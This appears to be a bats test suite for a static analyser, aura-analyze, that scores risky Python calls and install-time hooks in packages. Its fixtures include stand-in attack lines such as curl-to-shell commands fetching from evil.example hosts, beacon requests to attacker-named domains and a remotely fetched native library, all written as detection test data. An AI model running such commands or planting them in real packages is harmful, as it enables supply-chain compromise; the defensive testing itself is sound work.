#!/usr/bin/env bats
# 40-analyze.bats: aura-analyze turns calls and imports into hits through the rules file.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() {
	cd "$BATS_TEST_TMPDIR"
}

# hits FILE [OPTION...]: "line detection name context score" per hit.
hits() {
	scan "$@" | records_of_type hit | jq -r '"\(.line) \(.detection) \(.name) \(.context) \(.score)"'
}


@test "CodeExecution: eval and exec, not model.eval() or a local def eval" {
	py m.py <<'PY'
eval('f(1)')
exec('g(2)')
model.eval()
app.exec_()
PY
	run hits m.py
	assert_output "$(printf '1 CodeExecution builtins.eval import 40\n2 CodeExecution builtins.exec import 40')"
	py n.py <<'PY'
def eval(x): return x
eval('1')
PY
	run hits n.py
	assert_output ""
}

@test "HiddenBuiltin: a builtin fetched by evaluating its name; not eval of other text" {
	py m.py <<'PY'
_e = eval('\x65\x78\x65\x63')
_c = eval(compile('compile', '', 'eval'))
PY
	run hits m.py
	# eval('exec') only looks a name up (the lookup score): HiddenBuiltin carries the weight.
	assert_output "$(printf '1 CodeExecution builtins.eval import 2\n1 HiddenBuiltin builtins.exec import 60\n2 CodeExecution builtins.eval import 40\n2 HiddenBuiltin builtins.compile import 60\n2 CodeCompilation builtins.compile import 10')"
	py n.py <<'PY'
x = eval('1 + 1')
y = eval('__builtins__')
def f(s):
    return eval(s)
PY
	run hits n.py
	refute_output --partial HiddenBuiltin
}

@test "CodeCompilation: compile(), not re.compile()" {
	py m.py <<'PY'
import re
compile('x', 'f', 'exec')
re.compile('x')
PY
	run hits m.py
	assert_output "2 CodeCompilation builtins.compile import 10"
}

@test "DynamicImport: __import__ and importlib.import_module, not a method of that name" {
	py m.py <<'PY'
import importlib, sys
__import__(sys.argv[1])
importlib.import_module(sys.argv[2])
loader.import_module('x')
obj.__import__('y')
__import__('os')
PY
	run hits m.py
	assert_output "$(printf '2 DynamicImport builtins.__import__ import 5\n3 DynamicImport importlib.import_module import 5\n6 DynamicImport builtins.__import__ import 1')"
}

@test "ShellCommand: os.system through any alias, not a local function named system" {
	py m.py <<'PY'
from os import system as s
import os as o
s('curl x | sh')
o.popen('id')
PY
	run hits m.py
	# The command is also a DownloadAndRun string signature (tests/41-strings.bats).
	assert_output "$(printf '3 ShellCommand os.system import 50\n3 DownloadAndRun curl x | sh import 70\n4 ShellCommand os.popen import 50')"
	py n.py <<'PY'
def system(cmd): print(cmd)
system('ls')
shell.system('ls')
PY
	run hits n.py
	assert_output ""
}

@test "ProcessExecution: subprocess.* through an alias, os.exec*, os.spawn*, pty.spawn" {
	py m.py <<'PY'
import subprocess as sp, os, pty
sp.Popen(['x'])
sp.check_output('y')
os.execv('/bin/sh', [])
os.spawnlp(0, 'sh')
pty.spawn('/bin/sh')
PY
	run hits m.py
	assert_output "$(printf '%s\n' '2 ProcessExecution subprocess.Popen import 40' \
		'3 ProcessExecution subprocess.check_output import 40' '4 ProcessExecution os.execv import 40' \
		'5 ProcessExecution os.spawnlp import 40' '6 ProcessExecution pty.spawn import 40')"
	py n.py <<'PY'
cursor.execute('select 1')
proc.run()
app.exec_()
os_helpers.execv('x')
PY
	run hits n.py
	assert_output ""
}

@test "ShellCommand beats the subprocess.* wildcard for subprocess.getoutput" {
	py m.py <<'PY'
import subprocess
subprocess.getoutput('id')
PY
	run hits m.py
	assert_output "2 ShellCommand subprocess.getoutput import 50"
}

@test "NativeCode and NativeCodeImport: ctypes, not a look-alike module" {
	py m.py <<'PY'
import ctypes
ctypes.CDLL('./libx.so')
import ctypesx
ctypesx.CDLL('y')
PY
	run hits m.py
	assert_output "$(printf '1 NativeCodeImport ctypes import 1\n2 NativeCode ctypes.CDLL import 10')"
}

@test "UnsafeDeserialization: pickle.loads and marshal.loads, not json.loads" {
	py m.py <<'PY'
import pickle, marshal, json
pickle.loads(b'x')
marshal.loads(b'y')
json.loads('{}')
PY
	run hits m.py
	assert_output "$(printf '2 UnsafeDeserialization pickle.loads import 30\n3 UnsafeDeserialization marshal.loads import 30')"
}

@test "NetworkRequest and RawSocket: requests, urllib, socket, not dict.get" {
	py m.py <<'PY'
import requests, socket
from urllib.request import urlopen
requests.get('http://x')
urlopen('http://y')
socket.socket()
d.get('k')
session.post('z')
PY
	run hits m.py
	assert_output "$(printf '%s\n' '3 NetworkRequest requests.get import 40' \
		'4 NetworkRequest urllib.request.urlopen import 40' '5 RawSocket socket.socket import 30')"
}

@test "EncodedData: base64.b64decode scores low; b64encode is not flagged" {
	py m.py <<'PY'
import base64
base64.b64decode('eA==')
base64.b64encode(b'x')
PY
	run hits m.py
	assert_output "2 EncodedData base64.b64decode import 5"
}

@test "dynamic forms resolved by rewrite are flagged as what they call" {
	py m.py <<'PY'
import os
getattr(os, 'system')('id')
__import__('subprocess').run('id')
PY
	run hits m.py
	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' \
		'3 ProcessExecution subprocess.run import 40' '3 DynamicImport builtins.__import__ import 1')"
}

@test "contexts: setup.py top level is install, other files import, def bodies function" {
	mkdir -p pkg
	py pkg/setup.py <<'PY'
import os
os.system('a')
class Build:
    os.system('class body runs at install')
    def run(self):
        os.system('c')
f = lambda: os.system('d')
PY
	run hits pkg/setup.py
	assert_output "$(printf '%s\n' '2 ShellCommand os.system install 100' '4 ShellCommand os.system install 100' \
		'6 ShellCommand os.system function 2' '7 ShellCommand os.system function 2')"
	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan pkg/setup.py | jq -sc 'map(select(.type == \"hit\") | .tags) | unique'"
	assert_output '[["process"],["process","install-time"]]'
	cp pkg/setup.py pkg/other.py
	run hits pkg/other.py
	assert_output "$(printf '%s\n' '2 ShellCommand os.system import 50' '4 ShellCommand os.system import 50' \
		'6 ShellCommand os.system function 2' '7 ShellCommand os.system function 2')"
}

@test "setup commands: methods of cmdclass classes and install subclasses run at install time" {
	mkdir -p pkg
	py pkg/setup.py <<'PY'
import os
from setuptools import setup
from setuptools.command.install import install
from setuptools.command.develop import develop as dev

class PostInstall(install):
    def run(self):
        os.system('a')

class Dev(dev):
    def run(self):
        os.system('b')

class Hooked:
    def run(self):
        os.system('c')

class Helper:
    def run(self):
        os.system('d')

setup(name='x', cmdclass={'install': PostInstall, 'develop': Dev, 'build': Hooked})
PY
	run hits pkg/setup.py
	assert_output "$(printf '%s\n' '8 ShellCommand os.system install 100' '12 ShellCommand os.system install 100' \
		'16 ShellCommand os.system install 100' '20 ShellCommand os.system function 2')"
	# The same classes outside setup.py are ordinary code.
	cp pkg/setup.py pkg/commands.py
	run hits pkg/commands.py
	assert_output "$(printf '%s\n' '8 ShellCommand os.system function 2' '12 ShellCommand os.system function 2' \
		'16 ShellCommand os.system function 2' '20 ShellCommand os.system function 2')"
}

@test "setup commands: a cmdclass entry pip never runs (test, quality) is ordinary code; named elsewhere in setup.py, it runs" {
	mkdir -p pkg
	py pkg/setup.py <<'PY'
import os
from setuptools import setup, Command

class Tests(Command):
    def run(self):
        os.system('a')

class Quality(Command):
    def run(self):
        os.system('b')

class BuildTests(Command):
    def run(self):
        os.system('c')

class Build(Command):
    def run(self):
        self.run_command("build_tests")

class Lint(Command):
    def run(self):
        os.system('e')

class Docs(Command):
    def run(self):
        self.run_command("lint")

setup(name='x', cmdclass={'test': Tests, 'quality': Quality, 'build_tests': BuildTests, 'build_ext': Build,
                          'lint': Lint, 'docs': Docs})
PY
	run hits pkg/setup.py
	assert_output "$(printf '%s\n' '6 ShellCommand os.system function 2' '10 ShellCommand os.system function 2' \
		'14 ShellCommand os.system install 100' '22 ShellCommand os.system function 2')"
}

@test "a setup.py inside a nested archive is still install context" {
	py setup.py <<'PY'
eval('x')
PY
	run bash -c "$(declare -f parse_stage file_record); file_record setup.py | jq -c '.path = \"outer.tar.gz!pkg-1.0/setup.py\"' | parse_stage | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\") | .context'"
	assert_output install
}

@test "hits carry the pinned fields, file, name, context, tags and evidence, after the ast" {
	py setup.py <<'PY'
import os
os.system('curl http://evil.example/x.sh | sh')
PY
	run scan setup.py
	assert_success
	assert_valid_records
	# The second hit is the DownloadAndRun string signature of the same command.
	assert_equal "$(printf '%s\n' "$output" | jq -r .type | paste -sd,)" "file,ast,hit,hit"
	printf '%s\n' "$output" | records_of_type hit | jq -c 'select(.detection == "ShellCommand")' >hit.json
	run jq -c '[.stage, .artifact, .detection, .score, .severity, .path, .line, .col, .file, .name, .context, .tags, .evidence, .message]' hit.json
	assert_output '["aura-analyze","a","ShellCommand",100,"high","setup.py",2,0,"a:0","os.system","install",["process","install-time"],"os.system('"'"'curl http://evil.example/x.sh | sh'"'"')","os.system() runs a shell command at install time"]'
}

@test "evidence is capped at 200 bytes and stays valid UTF-8" {
	python3 -c "print('eval(\"' + 'é' * 300 + '\")')" >m.py
	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan m.py | records_of_type hit | jq -r .evidence"
	assert_success
	bytes=$(printf '%s' "$output" | wc -c)
	[ "$bytes" -le 200 ] || fail "evidence of $bytes bytes: $output"
	[[ "$output" == 'eval("éé'*'…' ]] || fail "evidence: $output"
}

@test "without a file record there is simply no evidence" {
	py m.py <<'PY'
eval('x')
PY
	run bash -c "python3 '$AURA_ROOT/tests/helpers/pyast2json.py' m.py | aura-rewrite | aura-analyze | jq -c 'select(.type == \"hit\") | [.detection, has(\"evidence\")]'"
	assert_output '["CodeExecution",false]'
}

@test "a tree rewrite has not seen: plain dotted names and bare builtins still match" {
	py m.py <<'PY'
import os
os.system('x')
eval('y')
model.eval()
PY
	run bash -c "python3 '$AURA_ROOT/tests/helpers/pyast2json.py' m.py | aura-analyze | jq -r 'select(.type == \"hit\") | \"\(.line) \(.name)\"'"
	assert_output "$(printf '2 os.system\n3 builtins.eval')"
}

@test "--rules: a custom rules file adds a detection without recompiling" {
	cat >custom.yaml <<'YAML'
# a custom rules file
version: 1
calls:
  - detection: ClipboardAccess
    names: pyperclip.*
    category: collection
    severity: medium
    score: {install: 30, default: 3}
    message: "{name}() reads the clipboard {when}"
    tags: [spyware]
imports:
YAML
	py m.py <<'PY'
import pyperclip as pc
pc.paste()
eval('x')
PY
	run bash -c "$(declare -f scan parse_stage file_record records_of_type); scan m.py --rules custom.yaml | records_of_type hit | jq -c '[.detection, .name, .score, .tags, .message]'"
	assert_success
	assert_output '["ClipboardAccess","pyperclip.paste",3,["collection","import-time","spyware"],"pyperclip.paste() reads the clipboard at import time"]'
}

@test "a score mapping without a context and without default gives no hit there" {
	cat >custom.yaml <<'YAML'
version: 1
calls:
  - {detection: SetupOnly, names: [builtins.eval], category: x, severity: low, score: {install: 9}, message: m}
YAML
	py m.py <<'PY'
eval('x')
PY
	run hits m.py --rules custom.yaml
	assert_output ""
	cp m.py setup.py
	run hits setup.py --rules custom.yaml
	assert_output "1 SetupOnly builtins.eval install 9"
}

@test "AURA_DATA_DIR chooses the rules file; the default is found from any directory" {
	mkdir data
	cat >data/rules.yaml <<'YAML'
version: 1
calls:
  - {detection: Printing, names: builtins.print, category: io, severity: info, score: 1, message: "{name}"}
YAML
	py m.py <<'PY'
print(eval('1'))
PY
	run bash -c "$(declare -f scan parse_stage file_record); AURA_DATA_DIR=$PWD/data scan m.py | jq -r 'select(.type == \"hit\") | .detection'"
	assert_output Printing
	run bash -c "$(declare -f scan parse_stage file_record); cd / && scan '$PWD/m.py' | jq -r 'select(.type == \"hit\") | .detection'"
	assert_output CodeExecution
}

@test "malformed rules files: a clear message with the line, exit 2" {
	printf 'version: 1\ncalls:\n  - detection: X\n    names: [a\n' >syntax.yaml
	run --separate-stderr aura-analyze --rules syntax.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == "aura-analyze: syntax.yaml:"[0-9]*":"[0-9]*": "* ]] || fail "stderr: $stderr"
	printf 'version: 1\ncalls:\n  - detection: X\n    names: a.b\n    sevrity: high\n' >key.yaml
	run --separate-stderr aura-analyze --rules key.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == "aura-analyze: key.yaml:5:5: unknown rule key 'sevrity'"* ]] || fail "stderr: $stderr"
	printf 'version: 1\ncalls:\n  - {detection: X, names: a, category: c, severity: huge, score: 1, message: m}\n' >sev.yaml
	run --separate-stderr aura-analyze --rules sev.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"sev.yaml:3:"*"severity 'huge'"* ]] || fail "stderr: $stderr"
	printf 'version: 1\ncalls:\n  - {detection: X, names: a, severity: low, score: 1, message: m}\n' >missing.yaml
	run --separate-stderr aura-analyze --rules missing.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"missing.yaml:3:5: rule without 'category'"* ]] || fail "stderr: $stderr"
	printf 'version: 1\ncalls:\n  - {detection: X, names: "a*b", category: c, severity: low, score: 1, message: m}\n' >star.yaml
	run --separate-stderr aura-analyze --rules star.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"star.yaml:3:"*"trailing '*'"* ]] || fail "stderr: $stderr"
	run --separate-stderr aura-analyze --rules does-not-exist.yaml </dev/null
	assert_failure 2
	[[ "$stderr" == *"does-not-exist.yaml: cannot open rules file"* ]] || fail "stderr: $stderr"
}

@test "the shipped rules file loads" {
	run aura-analyze --rules "$AURA_ROOT/data/rules.yaml" </dev/null
	assert_success
	assert_output ""
}

@test "non-ast records pass through byte for byte, in order" {
	printf '%s\n' '{"type":"artifact","v":1,"id":"x",  "path":"/tmp/x"}' \
		'{"type":"file","v":1,"artifact":"x","id":"x:0","index":0,"path":"a.py","content":"\u00e9","content_encoding":"utf-8"}' \
		'{"type":"verdict","v":1,"nested":{"_type":"Call"}}' >in.ndjson
	run aura-analyze <in.ndjson
	assert_success
	assert_output "$(cat in.ndjson)"
}

@test "a bad input line becomes an error record and the stream goes on" {
	printf '%s\n' '{"type":"artifact","v":1,"id":"x"}' '{"type":' \
		'{"type":"ast","v":1,"artifact":"x","file":"x:0","path":"a.py","tree":{"_type":"Module","body":[{"_type":"Expr","value":{"_type":"Call","func":{"_type":"Name","id":"exec"},"args":[],"keywords":[],"lineno":1,"col_offset":0}}],"type_ignores":[]}}' >in.ndjson
	run --separate-stderr aura-analyze <in.ndjson
	assert_success
	assert_valid_records
	# An artifact with neither name nor path: PackageNameUnknown (no typosquat check) comes first.
	assert_equal "$(printf '%s\n' "$output" | jq -r '.detection // .type' | paste -sd,)" "artifact,PackageNameUnknown,error,ast,CodeExecution"
	[[ "$stderr" == *"<stdin>:2:"* ]] || fail "stderr: $stderr"
}

@test "sealed: aura-analyze cannot open files once the rules are loaded" {
	run -3 aura-analyze --sandbox-selftest open:/etc/hostname </dev/null
}

@test "Python 2's exec statement (an Exec node) is CodeExecution; a Print node is not" {
	printf '%s\n' '{"type":"ast","v":1,"artifact":"x","file":"x:0","path":"setup.py","tree":{"_type":"Module","body":[{"_type":"Exec","body":{"_type":"Name","id":"code","ctx":{"_type":"Load"}},"globals":null,"locals":null,"lineno":3,"col_offset":0},{"_type":"Print","dest":null,"values":[],"nl":true,"lineno":4,"col_offset":0}],"type_ignores":[]}}' >in.ndjson
	run bash -c "aura-rewrite <in.ndjson | aura-analyze | jq -c 'select(.type == \"hit\") | [.detection, .name, .context, .line]'"
	assert_output '["CodeExecution","builtins.exec","install",3]'
}

@test "fixed_host: a request or DNS lookup of a hard-coded host at import time is a beacon; not a variable host, not localhost" {
	py m.py <<'PY'
import requests, socket
requests.get("http://ping.attacker-box.net/init")
socket.gethostbyname("pkg.oast-collector.io")
requests.get(URL)
requests.get("http://localhost:8000/x")
def later(host):
    socket.gethostbyname(host)
PY
	run hits m.py
	assert_output "$(printf '%s\n' \
		"2 NetworkRequest requests.get import 100" \
		"3 DNSLookup socket.gethostbyname import 100" \
		"4 NetworkRequest requests.get import 40" \
		"5 NetworkRequest requests.get import 40" \
		"7 DNSLookup socket.gethostbyname function 1")"
}

@test "test_paths: code under tests/ or in test_*.py weighs like function code; package code does not" {
	mkdir -p pkg/tests
	printf 'import os\nos.system("id")\n' > pkg/tests/helper.py
	printf 'import os\nos.system("id")\n' > pkg/test_build.py
	printf 'import os\nos.system("id")\n' > pkg/build.py
	run -0 bash -c "$(declare -f scan hits parse_stage file_record 2>/dev/null); cd $BATS_TEST_TMPDIR; for f in pkg/tests/helper.py pkg/test_build.py pkg/build.py; do scan \$f | jq -r 'select(.type == \"hit\") | \"\(.path) \(.context) \(.score) \(.tags | index(\"test-code\") != null)\"'; done"
	assert_output "$(printf '%s\n' "pkg/tests/helper.py function 2 true" "pkg/test_build.py function 2 true" "pkg/build.py import 50 false")"
}

@test "build tools: a constant command of a known build tool at install time weighs as a build" {
	py setup.py <<'PY'
import os, subprocess
subprocess.check_output(["pkg-config", "--cflags", "cairo"])
os.popen("sdl2-config --libs")
subprocess.check_output(("git", "describe", "--tags"))
subprocess.run(args=["cmake", "--build", "." + "/build"])
pg_config = os.environ.get("PG_CONFIG", "pg_config")
subprocess.run([pg_config, f"--{what}"])
cmd = ["gcc", "-I" + inc, *flags] + extra
subprocess.check_call(cmd, cwd=build_dir)
PY
	run dets setup.py ProcessExecution ShellCommand
	assert_output "$(printf '%s\n' "2 ProcessExecution subprocess.check_output install 10" \
		"3 ShellCommand os.popen install 10" "4 ProcessExecution subprocess.check_output install 10" \
		"5 ProcessExecution subprocess.run install 10" "7 ProcessExecution subprocess.run install 10" \
		"9 ProcessExecution subprocess.check_call install 10")"
	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .line == 2) | [.message, (.tags | index(\"build-tool\") != null)] | @tsv'"
	assert_output "$(printf 'subprocess.check_output() starts a process at install time: the build tool pkg-config\ttrue')"
}

# Line 8 runs a script of the package with the interpreter: its package_file score here,
# and in full at artifact_end when the artifact has no such file (48-precision.bats).
@test "build tools: not when the tool fetches, hides output, runs a shipped program, an interpreter, or a computed command" {
	py setup.py <<'PY'
import os, subprocess, sys, base64
subprocess.check_output(["git", "clone", "https://evil.example.net/x.git"])
subprocess.call("pkg-config --libs x > /dev/null 2>&1", shell=True)
os.system("make; curl -s http://evil.example.net/a | sh")
subprocess.call(["./configure"])
subprocess.call(["vendor/bin/cmake", "."])
subprocess.call(["python", "build.py"])
subprocess.call([sys.executable, "build.py"])
subprocess.call(["make"], executable="/tmp/x")
subprocess.call([tool, "--version"])
os.system(base64.b64decode("bWFrZQ==").decode())
subprocess.call(["git", "clone", requests.get(u).text])
cmd = ["make"]
cmd = ["sh", "-c", x]
subprocess.call(cmd)
PY
	run dets setup.py ProcessExecution ShellCommand
	assert_output "$(printf '%s\n' "2 ProcessExecution subprocess.check_output install 80" \
		"3 ProcessExecution subprocess.call install 80" "4 ShellCommand os.system install 100" \
		"5 ProcessExecution subprocess.call install 80" "6 ProcessExecution subprocess.call install 80" \
		"7 ProcessExecution subprocess.call install 80" "8 ProcessExecution subprocess.call install 10" \
		"9 ProcessExecution subprocess.call install 80" "10 ProcessExecution subprocess.call install 80" \
		"11 ShellCommand os.system install 100" "12 ProcessExecution subprocess.call install 80" \
		"15 ProcessExecution subprocess.call install 80")"
}

@test "build tools: a command passed to a setup.py def is followed back to every call of it" {
	py setup.py <<'PY'
import os, shlex, subprocess
def check_output(cmd):
    return subprocess.check_output(cmd)
check_output(["cython", "-o", "x.c"])
gdal_config = os.environ.get("GDAL_CONFIG", "gdal-config")
for flag in ["--cflags", "--libs"]:
    check_output([gdal_config, flag])
class Build:
    def build(self, src, build_tool=None):
        subprocess.check_call([build_tool, "-j4"], cwd=src)
    def run(self):
        build_tool = "ninja"
        self.build(".", build_tool)
        self.build(".")
cpp = shlex.split(os.environ.get("CPP", "cpp"))
subprocess.Popen(cpp + ["-Wp,-v", "-"])
PY
	py compilers.py <<'PY'
import shutil, subprocess, sysconfig
def version(obj):
    cc = obj.compiler.compiler_so[0]
    return subprocess.run([cc, "-dumpversion"], capture_output=True)
gcc = shutil.which("gcc")
subprocess.check_output([gcc, "-print-multiarch"])
subprocess.check_output([sysconfig.get_config_var("CC"), "--version"])
subprocess.check_output([obj.compiler, "--version"])
PY
	run dets compilers.py ProcessExecution
	assert_output "$(printf '%s\n' "4 ProcessExecution subprocess.run function 1" "6 ProcessExecution subprocess.check_output import 5" \
		"7 ProcessExecution subprocess.check_output import 5" "8 ProcessExecution subprocess.check_output import 40")"
	run dets setup.py ProcessExecution
	# (aura-rewrite resolves each call of the wrapper too: lines 4 and 7 weigh on their own)
	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_output install 10" \
		"4 ProcessExecution subprocess.check_output install 10" "7 ProcessExecution subprocess.check_output install 10" \
		"10 ProcessExecution subprocess.check_call function 1" "16 ProcessExecution subprocess.Popen install 10")"
	printf 'from setuptools import setup\nsetup(name="x", cmdclass={"build_ext": Build})\n' >> setup.py
	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .detection == \"ProcessExecution\") | \"\\(.line) \\(.score) \\(.message)\"'"
	assert_output "$(printf '%s\n' "3 10 subprocess.check_output() starts a process at install time: the build tool gdal-config (reached through check_output())" \
		"4 10 subprocess.check_output() starts a process at install time: the build tool cython" \
		"7 10 subprocess.check_output() starts a process at install time: the build tool gdal-config" \
		"10 10 subprocess.check_call() starts a process at install time: the build tool ninja" \
		"16 10 subprocess.Popen() starts a process at install time: the build tool cpp")"
}

@test "build tools: a parameter is not followed when one call passes something else, the def escapes, or outside setup.py" {
	py setup.py <<'PY'
import subprocess
def run(cmd):
    subprocess.check_call(cmd)
run(["pkg-config", "--libs", "x"])
run(["sh", "-c", "curl http://evil.example.net/x | sh"])
def quiet(cmd):
    subprocess.check_call(cmd)
quiet(["make"])
hooks = [quiet]
def spread(cmd):
    subprocess.check_call(cmd)
spread(*["./payload"])
def shipped(cmd):
    subprocess.check_call(cmd)
shipped(["./configure", "--prefix=/usr"])
shipped(["make"])
PY
	run dets setup.py ProcessExecution
	# the defs' bodies (3, 7, 11, 14) weigh in full; each call is also weighed on its own
	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_call install 80" \
		"4 ProcessExecution subprocess.check_call install 10" "5 ProcessExecution subprocess.check_call install 80" \
		"7 ProcessExecution subprocess.check_call install 80" "8 ProcessExecution subprocess.check_call install 10" \
		"11 ProcessExecution subprocess.check_call install 80" "12 ProcessExecution subprocess.check_call install 80" \
		"14 ProcessExecution subprocess.check_call install 80" "15 ProcessExecution subprocess.check_call install 80" \
		"16 ProcessExecution subprocess.check_call install 10")"
	py build.py <<'PY'
import subprocess
def run(cmd):
    subprocess.check_call(cmd)
run(["make"])
PY
	run dets build.py ProcessExecution
	assert_output "$(printf '%s\n' "3 ProcessExecution subprocess.check_call import 40" "4 ProcessExecution subprocess.check_call import 5")"
}

@test "NativeTypeOrLookup: finding a library or sizing a C type at install time is not loading one" {
	py setup.py <<'PY'
import ctypes, ctypes.util
path = ctypes.util.find_library("sqlite3")
n = ctypes.sizeof(ctypes.c_void_p)
lib = ctypes.CDLL(os.path.join(here, "libpayload.so"))
k = ctypes.windll.kernel32
PY
	run dets setup.py NativeCode NativeTypeOrLookup
	assert_output "$(printf '%s\n' "2 NativeTypeOrLookup ctypes.util.find_library install 5" \
		"3 NativeTypeOrLookup ctypes.sizeof install 5" \
		"4 NativeCode ctypes.CDLL install 50")"
}

@test "NativeCode: loading a system library at install time (a build probing a version) weighs little" {
	py setup.py <<'PY'
import ctypes, ctypes.util, glob, os
ctypes.CDLL(None)
ctypes.cdll.LoadLibrary("libssl.so")
path = ctypes.util.find_library("gssapi_krb5")
ctypes.CDLL(path)
ctypes.WinDLL(glob.glob(os.path.join(os.environ.get("OPENSSL_PATH"), "libcrypto*.dll"))[0])
PY
	run dets setup.py NativeCode
	assert_output "$(printf '%s\n' "2 NativeCode ctypes.CDLL install 5" "3 NativeCode ctypes.cdll.LoadLibrary install 5" \
		"5 NativeCode ctypes.CDLL install 5" "6 NativeCode ctypes.WinDLL install 5")"
	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\" and .line == 3) | [.message, (.tags | index(\"system-library\") != null)] | @tsv'"
	assert_output "$(printf 'ctypes.cdll.LoadLibrary() reaches native code through ctypes/cffi at install time: a system library (libssl.so)\ttrue')"
}

@test "NativeCode: a library the package ships, fetches or names by a relative path keeps its full score" {
	py setup.py <<'PY'
import ctypes, os, urllib.request
here = os.path.dirname(os.path.abspath(__file__))
ctypes.CDLL(os.path.join(here, "build", "libx.so"))
ctypes.cdll.LoadLibrary("./libpayload.so")
p = urllib.request.urlretrieve("http://evil.example.net/x.so")[0]
ctypes.CDLL(p)
ctypes.CDLL(os.path.join(os.environ.get("TMP"), "..", "x.so"))
ctypes.CDLL(name)
PY
	run dets setup.py NativeCode
	assert_output "$(printf '%s\n' "3 NativeCode ctypes.CDLL install 50" "4 NativeCode ctypes.cdll.LoadLibrary install 50" \
		"6 NativeCode ctypes.CDLL install 50" "7 NativeCode ctypes.CDLL install 50" "8 NativeCode ctypes.CDLL install 50")"
}

@test "a hit's severity says what it weighs in its context, at most the rule's severity" {
	py setup.py <<'PY'
import os, subprocess
def cli():
    subprocess.run(["ls"])
subprocess.call(["id"])
os.system("curl -s http://evil.example.net/a | sh")
PY
	run bash -c "$(declare -f scan parse_stage file_record); scan setup.py | jq -r 'select(.type == \"hit\") | \"\(.line) \(.detection) \(.score) \(.severity)\"'"
	assert_output "$(printf '%s\n' "3 ProcessExecution 2 info" "4 ProcessExecution 80 medium" \
		"5 ShellCommand 100 high" "5 DownloadAndRun 100 high")"
}

@test "fuzz finding: a hit whose column lies past its line's end quotes nothing, never reads past the file" {
	# From `make fuzz STAGE=analyze`: the evidence of a secret at a column beyond its line
	# was cut from an unsigned underflow and read past the source (ASan: heap-buffer-overflow
	# in utf8_cut; make san-check runs this test under ASan).
	run --separate-stderr aura-analyze < "$AURA_ROOT/tests/fixtures/analyze/fuzz-evidence-past-line.ndjson"
	assert_success
	assert_valid_records
}

@test "trees deeper than jansson reads (3000 nested calls, 6,000 JSON levels) are analysed whole" {
	python3 "$BATS_TEST_DIRNAME/fixtures/rewrite/gen-deep.py" ast call 3000 >in.ndjson
	# jq cannot read the ast record: the records after it are picked out by text
	run --separate-stderr bash -c 'aura-analyze <in.ndjson | grep -v "^{\"type\":\"ast\"" | jq -r "[.type, .detection // .message, .name // \"\"] | join(\" \")"'
	assert_success
	if grep -qa __asan_init "$AURA_BIN/aura-analyze"; then
		# AddressSanitizer's frames are several times larger: the same stack budget reaches
		# about 2,600 levels there, and the cut is said, never silent.
		assert_line 'hit ShellCommand os.system'
		assert_line --regexp '^error code nested deeper than the analysis follows \([0-9]+ JSON levels\): not analysed below ?$'
	else
		assert_output 'hit ShellCommand os.system'
	fi
}

@test "past the C stack budget: an error record says the tree was not analysed below the cut" {
	python3 "$BATS_TEST_DIRNAME/fixtures/rewrite/gen-deep.py" ast call 3000 >in.ndjson
	# A 256 KiB stack (soft = hard, so it cannot be raised) holds a few hundred levels; the
	# tree is dropped with its arena, not freed level by level (lib/arena.c).
	run bash -c 'ulimit -s 256 && aura-analyze <in.ndjson | grep -v "^{\"type\":\"ast\"" | jq -r "[.type, .message // .detection] | join(\" \")"'
	assert_success
	assert_line --regexp '^error code nested deeper than the analysis follows \([0-9]+ JSON levels\): not analysed below$'
	assert_line --regexp '^error code nested deeper than the analysis follows \([0-9]+ levels\): data flow not followed below$'
	refute_line --partial 'ShellCommand'
}
